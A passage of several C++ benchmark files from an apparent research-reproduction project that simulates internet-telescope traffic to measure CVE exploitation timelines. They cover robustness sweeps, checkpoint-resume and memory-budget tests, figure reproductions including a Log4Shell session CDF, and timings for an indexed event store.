  for (const auto& tl : timelines) {
    std::string code;
    for (const auto& d : lifecycle::studied_desiderata()) {
      const auto verdict = tl.precedes(d.before, d.after);
      code += !verdict ? '?' : (*verdict ? '1' : '0');
    }
    classes[tl.cve_id()] = code;
  }
  return classes;
}

struct SweepPoint {
  std::string label;
  faults::FaultPlan plan;
};

std::string percent(double v) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.1f%%", v * 100.0);
  return buf;
}

}  // namespace

int main() {
  const auto& study = bench::the_study();
  const auto clean_classes = classify(study.reconstruction.timelines);
  const double clean_skill = study.table4.mean_skill();
  std::cout << "clean run: " << clean_classes.size() << " CVEs reconstructed, mean skill "
            << clean_skill << "\n";

  const auto sweep = [&](const std::string& title, const std::vector<SweepPoint>& points) {
    bench::header(title);
    report::TextTable table(
        {"degradation", "sessions kept", "CVEs stable", "flipped", "lost", "mean skill"});
    for (const auto& point : points) {
      faults::FaultedCorpus degraded =
          faults::inject_faults(study.traffic, point.plan, /*seed=*/0xC0FFEE);
      pipeline::ReconstructOptions options;
      options.window_begin = data::study_begin();
      options.window_end = data::study_end();
      const auto reconstruction =
          pipeline::reconstruct(degraded.traffic.sessions, study.ruleset, options);
      const auto degraded_classes = classify(reconstruction.timelines);
      std::size_t stable = 0;
      std::size_t flipped = 0;
      for (const auto& [cve, code] : clean_classes) {
        const auto it = degraded_classes.find(cve);
        if (it == degraded_classes.end()) continue;  // CVE lost entirely
        (it->second == code ? stable : flipped) += 1;
      }
      const std::size_t lost = clean_classes.size() - stable - flipped;
      const auto table4 = lifecycle::skill_table(reconstruction.timelines);
      table.add_row({point.label, std::to_string(degraded.log.sessions_out),
                     percent(static_cast<double>(stable) /
                             static_cast<double>(clean_classes.size())),
                     std::to_string(flipped), std::to_string(lost),
                     std::to_string(table4.mean_skill())});
    }
    std::cout << table.render();
  };

  {
    std::vector<SweepPoint> points;
    for (const double rate : {0.01, 0.05, 0.10, 0.25, 0.50, 0.75, 0.90}) {
      faults::FaultPlan plan;
      plan.session_loss_rate = rate;
      points.push_back({percent(rate) + " session loss", plan});
    }
    sweep("Sweep (a): uniform session loss", points);
    std::cout << "Each captured exploit session is an independent observation of the same\n"
              << "lifecycle events, so classifications survive until the loss rate\n"
              << "approaches the reciprocal of a CVE's event count.\n";
  }

  {
    std::vector<SweepPoint> points;
    for (const std::size_t snaplen : {4096, 1024, 512, 256, 128, 64, 32}) {
      faults::FaultPlan plan;
      plan.snaplen = snaplen;
      points.push_back({std::to_string(snaplen) + "-byte snaplen", plan});
    }
    sweep("Sweep (b): payload truncation", points);
    std::cout << "Rule contents anchor in the first request line and headers, so matching\n"
              << "degrades only once the snaplen cuts into the signature region itself.\n";
  }

  {
    std::vector<SweepPoint> points;
    for (const double rate : {0.001, 0.01, 0.05, 0.10, 0.25}) {
      faults::FaultPlan plan;
      plan.corruption_rate = rate;
      points.push_back({percent(rate) + " corrupt sessions", plan});
    }
    sweep("Sweep (c): byte corruption", points);
  }

  {
    // The canonical degraded capture from the acceptance criteria, with
    // its closed-loop data-quality report.
    bench::header("Canonical degraded run (10% loss, 512-byte snaplen, 1% duplication)");
    pipeline::StudyConfig config = bench::study_config();
    config.faults.session_loss_rate = 0.10;
    config.faults.snaplen = 512;
    config.faults.duplication_rate = 0.01;
    const auto degraded = pipeline::run_study(config);
    std::cout << report::data_quality_report(degraded).render();
    const auto degraded_classes = classify(degraded.reconstruction.timelines);
    std::size_t stable = 0;
    for (const auto& [cve, code] : clean_classes) {
      const auto it = degraded_classes.find(cve);
      stable += (it != degraded_classes.end() && it->second == code) ? 1 : 0;
    }
    std::cout << "classification stability: " << stable << "/" << clean_classes.size()
              << " CVEs unchanged; mean skill " << degraded.table4.mean_skill() << " (clean "
              << clean_skill << ")\n";
  }
  return 0;
}
