// Robustness of the Table-4 reconstruction under degraded capture.
//
// Sweeps session-loss rates and snaplen truncation over the calibrated
// study traffic and reports, per degradation level, how many Appendix-E
// CVEs keep their clean-run skill classification (the satisfied /
// violated / unknown verdict across every studied desideratum) and how
// far the mean skill drifts.  The interesting output is the knee: the
// degradation level at which classifications start to flip.
// A final chaos leg times recovery itself: a journaled run interrupted at
// its last stage checkpoint and then resumed, against a cold run of the
// same configuration.  The resume wall-clock (and its speedup over cold)
// lands in BENCH_robustness.json (argv[1] redirects the path).
#include <chrono>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <string>
#include <vector>

#include "cache/serialize.h"
#include "common.h"
#include "data/appendix_e.h"
#include "faults/fault_injector.h"
#include "lifecycle/desiderata.h"
#include "obs/observability.h"
#include "pipeline/supervisor.h"
#include "report/data_quality.h"
#include "report/table.h"
#include "util/json.h"
#include "util/memory_budget.h"
#include "util/sha256.h"

namespace {

using namespace cvewb;

/// Per-CVE verdict string across the studied desiderata ('1'/'0'/'?').
std::map<std::string, std::string> classify(const std::vector<lifecycle::Timeline>& timelines) {
  std::map<std::string, std::string> classes;
  for (const auto& tl : timelines) {
    std::string code;
    for (const auto& d : lifecycle::studied_desiderata()) {
      const auto verdict = tl.precedes(d.before, d.after);
      code += !verdict ? '?' : (*verdict ? '1' : '0');
    }
    classes[tl.cve_id()] = code;
  }
  return classes;
}

struct SweepPoint {
  std::string label;
  faults::FaultPlan plan;
};

std::string percent(double v) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.1f%%", v * 100.0);
  return buf;
}

/// One supervised run against `cache_dir`; returns wall-clock seconds and
/// fills `report`.
double timed_run(pipeline::StudyConfig config, const std::string& cache_dir,
                 const std::string& cancel_after, pipeline::RunReport& report) {
  config.cache_dir = cache_dir;
  config.chaos_cancel_after_stage = cancel_after;
  const auto start = std::chrono::steady_clock::now();
  pipeline::RunSupervisor supervisor(std::move(config));
  report = supervisor.run();
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

}  // namespace

int main(int argc, char** argv) {
  const std::string out_path = argc > 1 ? argv[1] : "BENCH_robustness.json";
  const auto& study = bench::the_study();
  const auto clean_classes = classify(study.reconstruction.timelines);
  const double clean_skill = study.table4.mean_skill();
  std::cout << "clean run: " << clean_classes.size() << " CVEs reconstructed, mean skill "
            << clean_skill << "\n";

  const auto sweep = [&](const std::string& title, const std::vector<SweepPoint>& points) {
    bench::header(title);
    report::TextTable table(
        {"degradation", "sessions kept", "CVEs stable", "flipped", "lost", "mean skill"});
    for (const auto& point : points) {
      faults::FaultedCorpus degraded =
          faults::inject_faults(study.traffic, point.plan, /*seed=*/0xC0FFEE);
      pipeline::ReconstructOptions options;
      options.window_begin = data::study_begin();
      options.window_end = data::study_end();
      const auto reconstruction =
          pipeline::reconstruct(degraded.traffic.sessions, study.ruleset, options);
      const auto degraded_classes = classify(reconstruction.timelines);
      std::size_t stable = 0;
      std::size_t flipped = 0;
      for (const auto& [cve, code] : clean_classes) {
        const auto it = degraded_classes.find(cve);
        if (it == degraded_classes.end()) continue;  // CVE lost entirely
        (it->second == code ? stable : flipped) += 1;
      }
      const std::size_t lost = clean_classes.size() - stable - flipped;
      const auto table4 = lifecycle::skill_table(reconstruction.timelines);
      table.add_row({point.label, std::to_string(degraded.log.sessions_out),
                     percent(static_cast<double>(stable) /
                             static_cast<double>(clean_classes.size())),
                     std::to_string(flipped), std::to_string(lost),
                     std::to_string(table4.mean_skill())});
    }
    std::cout << table.render();
  };

  {
    std::vector<SweepPoint> points;
    for (const double rate : {0.01, 0.05, 0.10, 0.25, 0.50, 0.75, 0.90}) {
      faults::FaultPlan plan;
      plan.session_loss_rate = rate;
      points.push_back({percent(rate) + " session loss", plan});
    }
    sweep("Sweep (a): uniform session loss", points);
    std::cout << "Each captured exploit session is an independent observation of the same\n"
              << "lifecycle events, so classifications survive until the loss rate\n"
              << "approaches the reciprocal of a CVE's event count.\n";
  }

  {
    std::vector<SweepPoint> points;
    for (const std::size_t snaplen : {4096, 1024, 512, 256, 128, 64, 32}) {
      faults::FaultPlan plan;
      plan.snaplen = snaplen;
      points.push_back({std::to_string(snaplen) + "-byte snaplen", plan});
    }
    sweep("Sweep (b): payload truncation", points);
    std::cout << "Rule contents anchor in the first request line and headers, so matching\n"
              << "degrades only once the snaplen cuts into the signature region itself.\n";
  }

  {
    std::vector<SweepPoint> points;
    for (const double rate : {0.001, 0.01, 0.05, 0.10, 0.25}) {
      faults::FaultPlan plan;
      plan.corruption_rate = rate;
      points.push_back({percent(rate) + " corrupt sessions", plan});
    }
    sweep("Sweep (c): byte corruption", points);
  }

  {
    // The canonical degraded capture from the acceptance criteria, with
    // its closed-loop data-quality report.
    bench::header("Canonical degraded run (10% loss, 512-byte snaplen, 1% duplication)");
    pipeline::StudyConfig config = bench::study_config();
    config.faults.session_loss_rate = 0.10;
    config.faults.snaplen = 512;
    config.faults.duplication_rate = 0.01;
    const auto degraded = pipeline::run_study(config);
    std::cout << report::data_quality_report(degraded).render();
    const auto degraded_classes = classify(degraded.reconstruction.timelines);
    std::size_t stable = 0;
    for (const auto& [cve, code] : clean_classes) {
      const auto it = degraded_classes.find(cve);
      stable += (it != degraded_classes.end() && it->second == code) ? 1 : 0;
    }
    std::cout << "classification stability: " << stable << "/" << clean_classes.size()
              << " CVEs unchanged; mean skill " << degraded.table4.mean_skill() << " (clean "
              << clean_skill << ")\n";
  }

  util::Json doc;
  doc.set("bench", "bench_robustness");
  bool leg_failed = false;

  {
    // Chaos leg: how much of a run does a checkpointed interruption save?
    // Interrupt a journaled run right after its final stage checkpoint
    // (reconstruct) -- the best case a SIGTERM can hit -- then resume and
    // compare against a cold run of the same configuration.
    bench::header("Chaos leg: resume-after-interrupt vs cold run");
    const std::filesystem::path cache_root =
        std::filesystem::temp_directory_path() / "cvewb_bench_robustness_cache";
    std::filesystem::remove_all(cache_root);
    const pipeline::StudyConfig config = bench::study_config();

    pipeline::RunReport cold_report;
    const double cold_seconds =
        timed_run(config, (cache_root / "cold").string(), "", cold_report);
    const std::string cold_digest =
        cold_report.ok() ? util::sha256_hex(cache::encode_study_result(*cold_report.result))
                         : "";

    pipeline::RunReport interrupted_report;
    const double interrupted_seconds = timed_run(config, (cache_root / "resume").string(),
                                                 "reconstruct", interrupted_report);
    const bool interrupted_ok =
        interrupted_report.status == pipeline::RunStatus::kCancelled &&
        interrupted_report.resumable;

    obs::Observability resume_obs;
    pipeline::StudyConfig resume_config = config;
    resume_config.observability = &resume_obs;
    pipeline::RunReport resume_report;
    const double resume_seconds =
        timed_run(resume_config, (cache_root / "resume").string(), "", resume_report);
    const std::string resume_digest =
        resume_report.ok() ? util::sha256_hex(cache::encode_study_result(*resume_report.result))
                           : "";
    const auto counters = resume_obs.metrics.snapshot().counters;
    const auto counter = [&](const char* name) -> std::int64_t {
      const auto it = counters.find(name);
      return it == counters.end() ? 0 : static_cast<std::int64_t>(it->second);
    };

    const bool digests_match = !cold_digest.empty() && cold_digest == resume_digest;
    const double resume_speedup = resume_seconds > 0 ? cold_seconds / resume_seconds : 0;
    std::cout << "  cold run:          " << cold_seconds << " s\n"
              << "  interrupted run:   " << interrupted_seconds << " s (exit: "
              << pipeline::run_status_name(interrupted_report.status)
              << (interrupted_report.resumable ? ", resumable" : "") << ")\n"
              << "  resumed run:       " << resume_seconds << " s  (" << resume_speedup
              << "x vs cold, " << counter("resume/stages_prior") << " checkpoints adopted, "
              << counter("cache/hit") << " cache hits)\n"
              << "  digest convergence: " << (digests_match ? "identical" : "MISMATCH") << "\n";

    doc.set("event_scale", config.event_scale);
    doc.set("cold_seconds", cold_seconds);
    doc.set("interrupted_seconds", interrupted_seconds);
    doc.set("interrupted_resumable", interrupted_ok);
    doc.set("resume_seconds", resume_seconds);
    doc.set("resume_speedup", resume_speedup);
    doc.set("resume_stages_prior", counter("resume/stages_prior"));
    doc.set("resume_cache_hits", counter("cache/hit"));
    doc.set("digests_match", digests_match);
    std::filesystem::remove_all(cache_root);
    if (!digests_match || !interrupted_ok) leg_failed = true;
  }

  {
    // Memory-budget degradation leg: rerun the study with the soft
    // watermark pinned at 100% / 50% / 25% of the workload's measured peak
    // footprint.  Soft pressure may only trade speed for memory (smaller
    // arena chunks, cache writes skipped) -- the StudyResult digest must
    // stay byte-identical at every level.  Legs that skipped work say so
    // explicitly (`skipped` markers), so a reader can tell "unchanged
    // because nothing was gated" from "unchanged despite gating".
    bench::header("Memory-budget degradation: throughput at 100% / 50% / 25% of peak");
    const std::filesystem::path cache_root =
        std::filesystem::temp_directory_path() / "cvewb_bench_robustness_budget";
    std::filesystem::remove_all(cache_root);
    const pipeline::StudyConfig config = bench::study_config();

    const auto budget_run = [&](const std::string& tag, std::uint64_t soft_bytes,
                                pipeline::RunReport& report, std::uint64_t& skipped) {
      util::ScopedBudgetLimits limits(soft_bytes, /*hard_bytes=*/0);
      obs::Observability obs;
      pipeline::StudyConfig leg = config;
      leg.observability = &obs;
      const double seconds = timed_run(leg, (cache_root / tag).string(), "", report);
      const auto counters = obs.metrics.snapshot().counters;
      const auto it = counters.find("cache/skipped_budget");
      skipped = it == counters.end() ? 0 : it->second;
      return seconds;
    };

    pipeline::RunReport full_report;
    std::uint64_t full_skipped = 0;
    const double full_seconds = budget_run("full", 0, full_report, full_skipped);
    const std::string full_digest =
        full_report.ok() ? util::sha256_hex(cache::encode_study_result(*full_report.result))
                         : "";
    const std::uint64_t peak = util::MemoryBudget::process().peak();
    std::cout << "  unlimited run: " << full_seconds << " s, peak charged footprint " << peak
              << " bytes\n";

    report::TextTable table({"soft budget", "seconds", "throughput", "digest", "skipped"});
    util::JsonArray legs;
    for (const double fraction : {1.0, 0.5, 0.25}) {
      const auto soft = static_cast<std::uint64_t>(static_cast<double>(peak) * fraction);
      pipeline::RunReport report;
      std::uint64_t skipped = 0;
      const double seconds =
          budget_run(percent(fraction), soft == 0 ? 1 : soft, report, skipped);
      const std::string digest =
          report.ok() ? util::sha256_hex(cache::encode_study_result(*report.result)) : "";
      const bool match = !full_digest.empty() && digest == full_digest;
      if (!match) leg_failed = true;
      const double throughput = seconds > 0 ? full_seconds / seconds : 0;
      char ratio[32];
      std::snprintf(ratio, sizeof ratio, "%.2fx", throughput);
      table.add_row({percent(fraction) + " of peak", std::to_string(seconds), ratio,
                     match ? "identical" : "MISMATCH",
                     skipped > 0 ? std::to_string(skipped) + " cache writes" : "none"});
      util::Json leg;
      leg.set("budget_fraction", fraction);
      leg.set("soft_limit_bytes", static_cast<std::int64_t>(soft));
      leg.set("seconds", seconds);
      leg.set("throughput_vs_unlimited", throughput);
      leg.set("digest_match", match);
      leg.set("skipped_cache_writes", static_cast<std::int64_t>(skipped));
      leg.set("degraded", skipped > 0);
      legs.push_back(std::move(leg));
    }
    std::cout << table.render();
    std::cout << "Soft pressure trades only speed for footprint: every leg must land on the\n"
              << "unlimited digest, and the `skipped` column shows which legs actually shed\n"
              << "work rather than merely fitting under the watermark.\n";

    doc.set("peak_bytes", static_cast<std::int64_t>(peak));
    doc.set("unlimited_seconds", full_seconds);
    doc.set("memory_legs", util::Json(std::move(legs)));
    std::filesystem::remove_all(cache_root);
  }

  std::ofstream out(out_path);
  out << doc.dump(2) << "\n";
  std::cout << "\nwrote " << out_path << "\n";
  return leg_failed ? 1 : 0;
}
