// Performance benchmarks for the simulation and analysis pipeline.
#include <benchmark/benchmark.h>

#include "data/kev.h"
#include "lifecycle/markov.h"
#include "lifecycle/skill.h"
#include "pipeline/study.h"

namespace {

using namespace cvewb;

pipeline::StudyConfig tiny_config() {
  pipeline::StudyConfig config;
  config.seed = 7;
  config.event_scale = 0.01;
  config.background_per_day = 5.0;
  config.credstuff_per_day = 1.0;
  config.telescope_lanes = 20;
  config.pool_size = 100000;
  return config;
}

void BM_TelescopeSchedule(benchmark::State& state) {
  const auto dscope = pipeline::make_study_telescope(tiny_config());
  util::Rng rng(3);
  const auto begin = dscope.config().begin;
  for (auto _ : state) {
    const auto t = begin + util::Duration(rng.uniform_int(0, 86400 * 700));
    benchmark::DoNotOptimize(dscope.sample_active(t, rng));
  }
  state.SetItemsProcessed(state.iterations());
}
BENCHMARK(BM_TelescopeSchedule);

void BM_TrafficGeneration(benchmark::State& state) {
  const auto dscope = pipeline::make_study_telescope(tiny_config());
  traffic::InternetConfig config;
  config.event_scale = 0.01;
  config.background_per_day = 5.0;
  for (auto _ : state) {
    const auto generated = traffic::generate_traffic(dscope, config);
    benchmark::DoNotOptimize(generated.sessions.size());
    state.SetItemsProcessed(state.items_processed() +
                            static_cast<std::int64_t>(generated.sessions.size()));
  }
}
BENCHMARK(BM_TrafficGeneration)->Unit(benchmark::kMillisecond);

void BM_FullStudy(benchmark::State& state) {
  for (auto _ : state) {
    const auto result = pipeline::run_study(tiny_config());
    benchmark::DoNotOptimize(result.table4.mean_skill());
  }
}
BENCHMARK(BM_FullStudy)->Unit(benchmark::kMillisecond);

void BM_MarkovExactBaselines(benchmark::State& state) {
  for (auto _ : state) {
    benchmark::DoNotOptimize(lifecycle::pair_probabilities(lifecycle::cert_model()));
  }
}
BENCHMARK(BM_MarkovExactBaselines);

void BM_SkillTable(benchmark::State& state) {
  const auto timelines = lifecycle::study_timelines();
  for (auto _ : state) {
    benchmark::DoNotOptimize(lifecycle::skill_table(timelines));
  }
}
BENCHMARK(BM_SkillTable);

void BM_KevSynthesis(benchmark::State& state) {
  std::uint64_t seed = 1;
  for (auto _ : state) {
    benchmark::DoNotOptimize(data::synthesize_kev(seed++));
  }
}
BENCHMARK(BM_KevSynthesis);

}  // namespace

BENCHMARK_MAIN();
