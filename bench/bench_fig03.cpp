// Figure 3: timeline of CVE exploit events during the study (monthly).
// The paper notes an increasing rate over time and a late spike caused by
// a single CVE.
#include <algorithm>
#include <iostream>
#include <map>

#include "common.h"
#include "report/figures.h"
#include "stats/histogram.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto begin = data::study_begin();
  const double window_days = (data::study_end() - begin).total_days();
  stats::Histogram monthly(0.0, window_days, 24);
  for (const auto& event : study.reconstruction.events) {
    monthly.add((event.time - begin).total_days());
  }
  util::PlotOptions options;
  options.x_label = "days since 2021-03-01";
  report::print_figure(std::cout, "Figure 3: CVE exploit events during study (monthly)",
                       {report::histogram_series("exploit events", monthly)}, options);

  // Identify the dominant CVE in the busiest month (the paper's late spike).
  std::size_t peak_bin = 0;
  for (std::size_t i = 1; i < monthly.bin_count(); ++i) {
    if (monthly.count(i) > monthly.count(peak_bin)) peak_bin = i;
  }
  std::map<std::string, int> in_peak;
  for (const auto& event : study.reconstruction.events) {
    const double d = (event.time - begin).total_days();
    if (d >= monthly.bin_lo(peak_bin) && d < monthly.bin_hi(peak_bin)) ++in_peak[event.cve_id];
  }
  const auto top = std::max_element(in_peak.begin(), in_peak.end(),
                                    [](const auto& a, const auto& b) { return a.second < b.second; });
  std::cout << "peak month starts day " << monthly.bin_lo(peak_bin) << " with "
            << monthly.count(peak_bin) << " events; dominated by " << top->first << " ("
            << top->second << " events)\n";
  std::cout << "second-half/first-half event ratio: ";
  double first = 0;
  double second = 0;
  for (std::size_t i = 0; i < monthly.bin_count(); ++i) {
    (i < monthly.bin_count() / 2 ? first : second) += monthly.count(i);
  }
  std::cout << second / std::max(1.0, first) << " (paper: increasing rate over time)\n";
  return 0;
}
