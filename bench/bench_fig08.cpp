// Figure 8: CDF of Log4Shell TCP sessions over time -- rapid exploitation
// after disclosure, reduced targeting, and a resurgence ~a year later
// (Finding 13).
#include <iostream>

#include "common.h"
#include "report/figures.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  const auto* rec = data::find_cve("CVE-2021-44228");
  std::vector<double> days;
  for (const auto& event : study.reconstruction.events) {
    if (event.cve_id != "CVE-2021-44228") continue;
    days.push_back((event.time - rec->published).total_days());
  }
  const stats::Ecdf cdf(days);
  util::PlotOptions options;
  options.y_unit_interval = true;
  options.x_label = "days since Log4Shell publication (2021-12-10)";
  report::print_figure(std::cout, "Figure 8: CDF of Log4Shell sessions over time",
                       {report::ecdf_series("Log4Shell sessions", cdf)}, options);

  std::cout << "sessions: " << days.size() << " (paper row: 6254 exploit events)\n";
  std::cout << "share within 30 days of publication: " << report::fmt(cdf.at(30.0)) << "\n";
  // Finding 13's resurgence: mass between days 300 and 360 should exceed
  // the surrounding plateau.
  const double resurgence = cdf.at(365.0) - cdf.at(300.0);
  const double plateau = cdf.at(300.0) - cdf.at(235.0);
  std::cout << "resurgence mass (day 300-365): " << report::fmt(resurgence)
            << " vs preceding 65-day plateau: " << report::fmt(plateau)
            << (resurgence > plateau ? "  [resurgence visible]" : "") << "\n";
  return 0;
}
