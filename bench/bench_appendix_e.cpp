// Appendix E: re-derive the per-CVE table from the simulated pipeline and
// compare row-by-row with the paper's printed values.
#include <algorithm>
#include <iostream>

#include "common.h"
#include "report/table.h"

int main() {
  using namespace cvewb;
  const auto& study = bench::the_study();
  report::TextTable table({"CVE", "P", "events (paper)", "events (measured)", "A-P (paper)",
                           "A-P (measured)", "D-P"});
  int rows_matching_first_attack = 0;
  int rows_with_attack = 0;
  for (const auto& rec : data::appendix_e()) {
    const auto it = study.reconstruction.per_cve.find(rec.id);
    std::string measured_events = "-";
    std::string measured_a_p = "-";
    if (it != study.reconstruction.per_cve.end() && it->second.exploit_events > 0) {
      measured_events = std::to_string(it->second.exploit_events);
      measured_a_p = util::format_offset(it->second.first_attack - rec.published);
      if (rec.a_minus_p) {
        ++rows_with_attack;
        const auto expected = std::max(*rec.first_attack(), data::study_begin());
        if (it->second.first_attack == expected) ++rows_matching_first_attack;
      }
    }
    table.add_row({rec.id, util::format_date(rec.published), std::to_string(rec.events),
                   measured_events,
                   rec.a_minus_p ? util::format_offset(*rec.a_minus_p) : std::string("-"),
                   measured_a_p,
                   rec.d_minus_p ? util::format_offset(*rec.d_minus_p) : std::string("-")});
  }
  std::cout << "=== Appendix E -- studied CVEs, paper vs pipeline ===\n" << table.render();
  std::cout << "\nfirst-attack instants reproduced exactly: " << rows_matching_first_attack
            << " of " << rows_with_attack << " CVEs with observed attacks\n";
  std::cout << "vendors: " << data::distinct_vendors() << " (paper: 40), CWEs: "
            << data::distinct_cwes() << " (paper: 25), total events: " << data::total_events()
            << "\n";
  return 0;
}
