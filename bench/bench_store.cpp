// The persistent store's reason to exist, measured: answering a lifecycle
// question from the indexed store must beat re-deriving the answer from a
// pipeline rerun -- even a fully warm-cache rerun -- by orders of
// magnitude.
//
// Legs:
//   1. cold supervised run (populates the stage cache),
//   2. warm rerun of the identical config (every stage a cache hit) --
//      the best the pre-store workflow can do,
//   3. store ingest (throughput in rows/s), checkpoint, and mmap reopen,
//   4. representative index-scan queries (by CVE, time window, source,
//      SID) timed against their brute-scan twins, with byte-identical
//      digests asserted along the way.
//
//   5. compound-predicate queries through the planner's intersection
//      path vs their brute twins (gate: >= 10x), and
//   6. an incremental checkpoint of a one-run delta vs the full rewrite
//      compaction performs over the whole tier chain (gate: >= 5x).
//
// Results land in BENCH_store.json (argv[1] redirects the path).  The
// headline invariant -- index-scan latency at least 50x faster than the
// warm-cache rerun that would otherwise produce the same rows -- fails
// the process when violated.  The compound and checkpoint gates record a
// `skipped` marker (with the reason) instead of failing when their
// preconditions don't hold at the bench scale -- e.g. the planner finds
// no second selective predicate worth intersecting -- so the JSON never
// silently conflates "passed" with "never ran".
#include <algorithm>
#include <chrono>
#include <cstdint>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <map>
#include <string>
#include <vector>

#include "common.h"
#include "lifecycle/exposure.h"
#include "pipeline/study.h"
#include "store/store.h"
#include "util/json.h"

namespace {

using namespace cvewb;

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

/// Mean wall-clock microseconds of `reps` executions of one query.
double mean_query_us(const store::Store& s, const store::Query& q, store::QueryMode mode,
                     int reps) {
  const auto start = std::chrono::steady_clock::now();
  for (int i = 0; i < reps; ++i) (void)s.query(q, mode);
  return seconds_since(start) * 1e6 / reps;
}

}  // namespace

int main(int argc, char** argv) {
  const std::string out_path = argc > 1 ? argv[1] : "BENCH_store.json";
  const auto scratch = std::filesystem::temp_directory_path() / "cvewb_bench_store";
  std::filesystem::remove_all(scratch);
  std::filesystem::create_directories(scratch);

  pipeline::StudyConfig config = bench::study_config();
  config.cache_dir = (scratch / "cache").string();

  bench::header("store: cold run, warm rerun, ingest, index scans");

  auto start = std::chrono::steady_clock::now();
  const pipeline::StudyResult cold = pipeline::run_study(config);
  const double cold_seconds = seconds_since(start);

  start = std::chrono::steady_clock::now();
  const pipeline::StudyResult warm = pipeline::run_study(config);
  const double warm_seconds = seconds_since(start);
  std::cout << "  cold run:   " << cold_seconds << " s\n"
            << "  warm rerun: " << warm_seconds << " s (every stage cached)\n";

  store::StoreError error;
  auto s = store::Store::open(scratch / "store", {}, &error);
  if (s == nullptr) {
    std::cerr << "store open failed: " << error.detail << "\n";
    return 1;
  }
  const std::uint64_t total_rows = cold.traffic.sessions.size() + cold.reconstruction.events.size();
  start = std::chrono::steady_clock::now();
  if (!s->ingest(cold, "bench-run", &error)) {
    std::cerr << "ingest failed: " << error.detail << "\n";
    return 1;
  }
  const double ingest_seconds = seconds_since(start);
  const double ingest_rows_per_second = ingest_seconds > 0 ? total_rows / ingest_seconds : 0;

  start = std::chrono::steady_clock::now();
  if (!s->checkpoint(&error)) {
    std::cerr << "checkpoint failed: " << error.detail << "\n";
    return 1;
  }
  const double checkpoint_seconds = seconds_since(start);

  // Reopen so queries run against the mmap'd snapshot, the steady state a
  // long-lived daemon serves from.
  s.reset();
  start = std::chrono::steady_clock::now();
  s = store::Store::open(scratch / "store", {}, &error);
  const double reopen_seconds = seconds_since(start);
  if (s == nullptr || !s->stats().snapshot_mapped) {
    std::cerr << "reopen failed or snapshot not mapped\n";
    return 1;
  }
  std::cout << "  ingest:     " << total_rows << " rows in " << ingest_seconds << " s ("
            << static_cast<std::uint64_t>(ingest_rows_per_second) << " rows/s)\n"
            << "  checkpoint: " << checkpoint_seconds << " s, mmap reopen: " << reopen_seconds
            << " s\n";

  // Representative predicates drawn from the corpus itself.
  std::map<std::string, std::uint64_t> cve_counts;
  for (const auto& e : cold.reconstruction.events) ++cve_counts[e.cve_id];
  std::string top_cve;
  std::uint64_t top_count = 0;
  for (const auto& [cve, n] : cve_counts) {
    if (n > top_count) {
      top_count = n;
      top_cve = cve;
    }
  }
  lifecycle::ExploitEvent some_event;
  if (!cold.reconstruction.events.empty()) some_event = cold.reconstruction.events.front();

  std::vector<std::pair<std::string, store::Query>> shapes;
  {
    store::Query q;
    q.table = store::Table::kEvents;
    q.cve = top_cve;
    shapes.emplace_back("events_by_cve", q);
  }
  {
    store::Query q;
    q.table = store::Table::kEvents;
    q.time_begin = some_event.time.unix_seconds();
    q.time_end = some_event.time.unix_seconds() + 7 * 86'400;
    shapes.emplace_back("events_by_week", q);
  }
  {
    store::Query q;
    q.table = store::Table::kSessions;
    q.src = some_event.src;
    shapes.emplace_back("sessions_by_src", q);
  }
  {
    store::Query q;
    q.table = store::Table::kEvents;
    q.sid = some_event.sid;
    shapes.emplace_back("events_by_sid", q);
  }

  constexpr int kReps = 50;
  util::Json queries{util::JsonArray{}};
  double worst_index_us = 0;
  bool digests_ok = true;
  for (const auto& [name, q] : shapes) {
    const auto via_index = s->query(q, store::QueryMode::kIndex);
    const auto via_brute = s->query(q, store::QueryMode::kBrute);
    digests_ok = digests_ok && via_index.digest_hex == via_brute.digest_hex &&
                 via_index.matched == via_brute.matched;
    const double index_us = mean_query_us(*s, q, store::QueryMode::kIndex, kReps);
    const double brute_us = mean_query_us(*s, q, store::QueryMode::kBrute, kReps);
    worst_index_us = std::max(worst_index_us, index_us);
    std::cout << "  " << name << ": " << via_index.matched << " matched, index " << index_us
              << " us, brute " << brute_us << " us ("
              << (index_us > 0 ? brute_us / index_us : 0) << "x)\n";
    util::Json row;
    row.set("query", name);
    row.set("matched", static_cast<std::int64_t>(via_index.matched));
    row.set("index_scan_us", index_us);
    row.set("brute_scan_us", brute_us);
    row.set("digests_match", via_index.digest_hex == via_brute.digest_hex);
    queries.push_back(std::move(row));
  }

  // The headline: even the SLOWEST index scan vs the warm-cache rerun
  // that is the only other way to materialize these rows on demand.
  const double speedup_vs_warm =
      worst_index_us > 0 ? warm_seconds * 1e6 / worst_index_us : 0;
  std::cout << "  index scan vs warm-cache rerun: " << speedup_vs_warm << "x (require >= 50x)\n"
            << "  digest convergence: " << (digests_ok ? "identical" : "MISMATCH") << "\n";

  // Leg 5: compound predicates through the intersection path.  The gate
  // only arms when the planner actually intersects -- a single-driver or
  // brute verdict at this corpus scale is a skip, not a fail.
  bool gates_ok = true;
  util::Json compound_gate;
  compound_gate.set("gate", "compound_intersect_vs_brute");
  compound_gate.set("required_speedup", 10.0);
  {
    // Two individually selective predicates that provably co-occur: the
    // rule SID of one exploit event and the one-week window containing
    // it (the event itself satisfies both, so matched >= 1 and neither
    // posting probe is empty).
    store::Query q;
    q.table = store::Table::kEvents;
    q.sid = some_event.sid;
    q.time_begin = some_event.time.unix_seconds();
    q.time_end = some_event.time.unix_seconds() + 7 * 86'400;
    const auto report = s->plan(q);
    const auto via_index = s->query(q, store::QueryMode::kIndex);
    const auto via_brute = s->query(q, store::QueryMode::kBrute);
    digests_ok = digests_ok && via_index.digest_hex == via_brute.digest_hex;
    compound_gate.set("plan", report.plan);
    compound_gate.set("matched", static_cast<std::int64_t>(via_index.matched));
    if (report.plan.rfind("intersect(", 0) != 0) {
      compound_gate.set("skipped", true);
      compound_gate.set("reason", "planner chose '" + report.plan +
                                      "' -- no second selective predicate at this scale");
      std::cout << "  compound gate SKIPPED (plan " << report.plan << ")\n";
    } else {
      const double index_us = mean_query_us(*s, q, store::QueryMode::kIndex, kReps);
